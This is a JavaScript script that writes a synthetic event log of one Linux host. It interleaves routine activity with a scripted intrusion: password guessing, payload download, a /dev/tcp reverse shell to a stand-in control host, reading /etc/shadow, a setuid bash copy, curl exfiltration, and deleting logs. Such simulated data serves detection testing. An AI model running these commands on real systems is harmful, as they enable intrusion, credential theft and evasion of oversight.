// Writes examples/attack.jsonl: an ordinary morning on one Linux host, and an intrusion in between.
//
// Every event, address and name is made up here; addresses are those reserved for documentation
// (RFC 5737) and names end in example.com (RFC 2606). The same script writes the same bytes.
// An argument names another file to write.
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const output =
  process.argv[2] ??
  join(dirname(fileURLToPath(import.meta.url)), "..", "examples", "attack.jsonl");
const startMs = Date.UTC(2026, 2, 2, 9, 0, 0);

const host = {
  id: "5f0c3d5e9a7b4c21b8d6e4f1a2c37790",
  name: "workshop-3",
  os: { type: "linux" },
  boot: { id: "8b1d7c52-6f0e-4f6a-9a35-2f4c1de07b11" },
};
const users = {
  root: { id: "0", name: "root" },
  deploy: { id: "1000", name: "deploy" },
  "www-data": { id: "33", name: "www-data" },
};

const attackerIp = "203.0.113.66";
const filesIp = "198.51.100.23";
const controlIp = "198.51.100.77";
const uploadIp = "203.0.113.90";
const payload = "/tmp/.cache-update";

/** @typedef {{ pid: number, entity_id: string, parent: Process | null, name: string,
 *   executable: string, args: string[], cwd: string, user: { id: string, name: string },
 *   interactive: boolean, entry: string }} Process */

const events = [];
let nowNs = 0n;

/** Moves the clock on by seconds; the odd nanoseconds make each time unlike the next. */
function wait(seconds) {
  nowNs +=
    BigInt(Math.round(seconds * 1000)) * 1_000_000n + BigInt((events.length * 7919) % 99_991);
}

function timestamp() {
  const seconds = new Date(startMs + Number(nowNs / 1_000_000_000n) * 1000).toISOString();
  return `${seconds.slice(0, 19)}.${String(nowNs % 1_000_000_000n).padStart(9, "0")}Z`;
}

function entityId(pid) {
  const identity = `${host.boot.id}/${nowNs}/${pid}`;
  return createHash("sha256").update(identity).digest("base64url").slice(0, 22);
}

/** A process that exists without an event: from before the recording, or forked just now. */
function born(parent, pid, executable, args, changes = {}) {
  return {
    pid,
    entity_id: entityId(pid),
    parent,
    name: basename(executable),
    executable,
    args,
    cwd: parent?.cwd ?? "/",
    user: parent?.user ?? users.root,
    interactive: parent?.interactive ?? false,
    entry: parent?.entry ?? "init",
    ...changes,
  };
}

function basename(path) {
  return path.slice(path.lastIndexOf("/") + 1);
}

function brief(process) {
  return {
    entity_id: process.entity_id,
    pid: process.pid,
    name: process.name,
    executable: process.executable,
    args: process.args,
    args_count: process.args.length,
    command_line: process.args.join(" "),
    working_directory: process.cwd,
    interactive: process.interactive,
    user: process.user,
  };
}

function ancestry(process) {
  const ids = [];
  for (let at = process.parent; at !== null; at = at.parent) ids.push(at.entity_id);
  return ids;
}

function emit(category, type, action, process, fields = {}) {
  const sequence = events.length + 1;
  const event = {
    id: `workshop-3-${String(sequence).padStart(4, "0")}`,
    sequence,
    kind: "event",
    category: [category],
    type: [type],
    action,
    dataset: `kestrel.${category}`,
    provider: "replay",
    ...(fields.outcome === undefined ? {} : { outcome: fields.outcome }),
  };
  const { outcome: _, exitCode, ...others } = fields;
  const described = {
    ...brief(process),
    ...(exitCode === undefined ? {} : { exit_code: exitCode }),
    ...(process.parent === null ? {} : { parent: brief(process.parent) }),
    entry_leader: { entry_meta: { type: process.entry } },
    Ext: { ancestry: ancestry(process) },
  };
  const record = { "@timestamp": timestamp(), event, host, process: described, user: process.user };
  events.push(JSON.stringify({ ...record, ...others }));
}

/** Runs a program: the parent has forked, and the child replaces itself. */
function run(parent, pid, executable, args, changes) {
  const child = born(parent, pid, executable, args, changes);
  emit("process", "start", "exec", child);
  return child;
}

function exit(process, exitCode = 0) {
  emit("process", "end", "end", process, { exitCode });
}

/** A command that ends soon after it has begun. */
function command(parent, pid, executable, args, seconds = 0.03) {
  const child = run(parent, pid, executable, args);
  wait(seconds);
  exit(child);
  wait(0.2);
}

function file(process, action, path, original) {
  const type = { creation: "creation", deletion: "deletion", rename: "change" }[action];
  const described = { path, name: basename(path), type: "file", ...extensionOf(path) };
  const before = original && { path: original, name: basename(original), ...extensionOf(original) };
  emit("file", type, action, process, {
    file: before === undefined ? described : { ...described, Ext: { original: before } },
  });
}

function extensionOf(path) {
  const [, extension] = /[^/.][^/]*\.([^./]+)$/.exec(path) ?? [];
  return extension === undefined ? {} : { extension };
}

function lookup(process, name, ip) {
  emit("dns", "info", "lookup_result", process, {
    dns: { question: { name, type: "A" }, resolved_ip: [ip] },
  });
}

function connect(process, ip, port) {
  emit("network", "start", "connection_attempted", process, {
    destination: { ip, port },
    network: { direction: "egress", type: "ipv4", transport: "tcp" },
  });
}

function login(sshd, outcome, userName, ip, port) {
  emit("authentication", "start", "ssh_login", sshd, {
    outcome,
    user: users[userName],
    source: { ip, port },
  });
}

// The host as it stands when the recording begins.
const init = born(null, 1, "/usr/lib/systemd/systemd", ["/sbin/init"]);
const sshd = born(init, 812, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"]);
const cron = born(init, 644, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"]);
const nginx = born(init, 903, "/usr/sbin/nginx", ["nginx", "-g", "daemon on;"]);
const rsyslogd = born(init, 655, "/usr/sbin/rsyslogd", ["/usr/sbin/rsyslogd", "-n"]);

/** One run of the health check that cron starts every minute. */
function healthCheck(pid) {
  const shell = run(cron, pid, "/usr/bin/dash", ["/bin/sh", "-c", "/usr/local/bin/health-check"]);
  wait(0.01);
  const curl = run(shell, pid + 1, "/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1/status"]);
  wait(0.02);
  connect(curl, "127.0.0.1", 80);
  wait(0.05);
  exit(curl);
  exit(shell);
}

/** A log-in over SSH up to the shell. */
function openSession(pid, userName, ip, port) {
  const session = born(sshd, pid, "/usr/sbin/sshd", ["sshd:", userName], {
    entry: "sshd",
  });
  login(session, "success", userName, ip, port);
  wait(0.3);
  return run(session, pid + 1, "/usr/bin/bash", ["-bash"], {
    user: users[userName],
    cwd: `/home/${userName}`,
    interactive: true,
  });
}

function ordinaryWork() {
  const shell = openSession(2100, "deploy", "192.0.2.15", 50122);
  wait(2);
  command(shell, 2110, "/usr/bin/ls", ["ls", "-la"]);
  wait(4);
  const git = run(shell, 2111, "/usr/bin/git", ["git", "pull", "--ff-only"]);
  wait(0.1);
  lookup(git, "git.example.com", "192.0.2.40");
  connect(git, "192.0.2.40", 443);
  wait(1.5);
  exit(git);
  wait(3);
  command(shell, 2112, "/usr/bin/tail", ["tail", "-n", "50", "/var/log/nginx/access.log"]);
  command(shell, 2113, "/usr/bin/df", ["df", "-h"]);
  wait(5);
  exit(shell);
}

function packageUpdate() {
  const dpkg = run(init, 2300, "/usr/bin/dpkg", ["dpkg", "--configure", "-a"]);
  wait(0.2);
  file(dpkg, "creation", "/etc/cron.daily/workshop-tools.dpkg-new");
  wait(0.1);
  file(dpkg, "rename", "/etc/cron.daily/workshop-tools", "/etc/cron.daily/workshop-tools.dpkg-new");
  wait(0.4);
  exit(dpkg);
}

function rotateLogs() {
  const logrotate = run(cron, 2400, "/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"]);
  wait(0.1);
  file(logrotate, "rename", "/var/log/nginx/access.log.1", "/var/log/nginx/access.log");
  file(logrotate, "deletion", "/var/log/nginx/access.log.15.gz");
  wait(0.1);
  exit(logrotate);
}

/** Six wrong passwords and the right one. */
function guessPassword() {
  for (let i = 0; i < 6; i += 1) {
    const attempt = born(sshd, 3000 + i, "/usr/sbin/sshd", ["sshd:", "[accepted]"]);
    login(attempt, "failure", "deploy", attackerIp, 40_100 + i);
    wait(4);
  }
  const shell = openSession(3010, "deploy", attackerIp, 40_120);
  wait(1);
  return shell;
}

function surveyHost(shell) {
  const commands = [["id"], ["whoami"], ["uname", "-a"], ["hostname"], ["ss", "-tlnp"]];
  for (const [i, args] of commands.entries()) {
    command(shell, 3020 + i, `/usr/bin/${args[0]}`, args);
  }
  wait(6);
}

function fetchPayload(shell) {
  const url = "http://files.example.com/cache-update";
  const curl = run(shell, 3040, "/usr/bin/curl", ["curl", "-s", "-o", payload, url]);
  wait(0.05);
  lookup(curl, "files.example.com", filesIp);
  connect(curl, filesIp, 80);
  wait(0.4);
  file(curl, "creation", payload);
  wait(0.1);
  exit(curl);
  wait(2);
  command(shell, 3041, "/usr/bin/chmod", ["chmod", "+x", payload]);
}

/** The payload reports home, opens a reverse shell and becomes root. */
function runPayload(shell) {
  const implant = run(shell, 3042, payload, [payload]);
  wait(0.8);
  lookup(implant, "control.example.com", controlIp);
  connect(implant, controlIp, 443);
  wait(3);
  implant.user = users.root;
  emit("process", "change", "uid_change", implant, {
    user: { ...users.root, Ext: { real: users.deploy } },
  });
  wait(1);
  const line = `bash -i >& /dev/tcp/${controlIp}/4444 0>&1`;
  const reverse = run(implant, 3050, "/usr/bin/bash", ["bash", "-c", line], { cwd: "/tmp" });
  wait(0.1);
  connect(reverse, controlIp, 4444);
  wait(5);
  return { implant, reverse };
}

function stealCredentials(shell) {
  command(shell, 3060, "/usr/bin/cat", ["cat", "/etc/shadow"]);
  wait(3);
  const args = ["find", "/home", "/root", "-name", "id_rsa", "-o", "-name", "id_ed25519"];
  command(shell, 3061, "/usr/bin/find", args, 0.6);
  wait(2);
}

function settleIn(shell) {
  file(shell, "creation", "/etc/cron.d/cache-update");
  wait(2);
  file(shell, "creation", "/root/.ssh/authorized_keys");
  wait(2);
  command(shell, 3070, "/usr/bin/cp", ["cp", "/bin/bash", "/var/tmp/.helper"]);
  command(shell, 3071, "/usr/bin/chmod", ["chmod", "4755", "/var/tmp/.helper"]);
  wait(2);
}

function stopLogging(shell) {
  const systemctl = run(shell, 3080, "/usr/bin/systemctl", ["systemctl", "stop", "rsyslog"]);
  wait(0.2);
  exit(rsyslogd);
  wait(0.1);
  exit(systemctl);
  wait(3);
}

function takeData(shell) {
  const archive = "/tmp/.stage.tgz";
  const tar = run(shell, 3090, "/usr/bin/tar", ["tar", "czf", archive, "/srv/workshop/config"]);
  wait(0.3);
  file(tar, "creation", archive);
  wait(0.8);
  exit(tar);
  wait(2);
  const url = "https://upload.example.com/in";
  const curl = run(shell, 3091, "/usr/bin/curl", ["curl", "-s", "-T", archive, url]);
  wait(0.05);
  lookup(curl, "upload.example.com", uploadIp);
  connect(curl, uploadIp, 443);
  wait(2.5);
  exit(curl);
  wait(2);
}

function coverTracks(shell, implant) {
  for (const [pid, path] of [
    [3100, "/var/log/auth.log"],
    [3101, "/root/.bash_history"],
  ]) {
    const rm = run(shell, pid, "/usr/bin/rm", ["rm", "-f", path]);
    wait(0.02);
    file(rm, "deletion", path);
    exit(rm);
    wait(1);
  }
  file(implant, "deletion", payload);
  wait(1);
  exit(shell);
  exit(implant);
}

function story() {
  healthCheck(2000);
  wait(20);
  ordinaryWork();
  wait(10);
  healthCheck(2200);
  wait(5);
  packageUpdate();
  wait(8);
  const worker = run(nginx, 2250, "/usr/sbin/nginx", ["nginx:", "worker"], {
    user: users["www-data"],
  });
  wait(12);
  const shell = guessPassword();
  surveyHost(shell);
  fetchPayload(shell);
  const { implant, reverse } = runPayload(shell);
  healthCheck(2210);
  stealCredentials(reverse);
  settleIn(reverse);
  stopLogging(reverse);
  takeData(reverse);
  coverTracks(reverse, implant);
  exit(shell);
  wait(20);
  rotateLogs();
  wait(40);
  healthCheck(2220);
  wait(30);
  exit(worker);
}

story();
mkdirSync(dirname(output), { recursive: true });
writeFileSync(output, `${events.join("\n")}\n`);
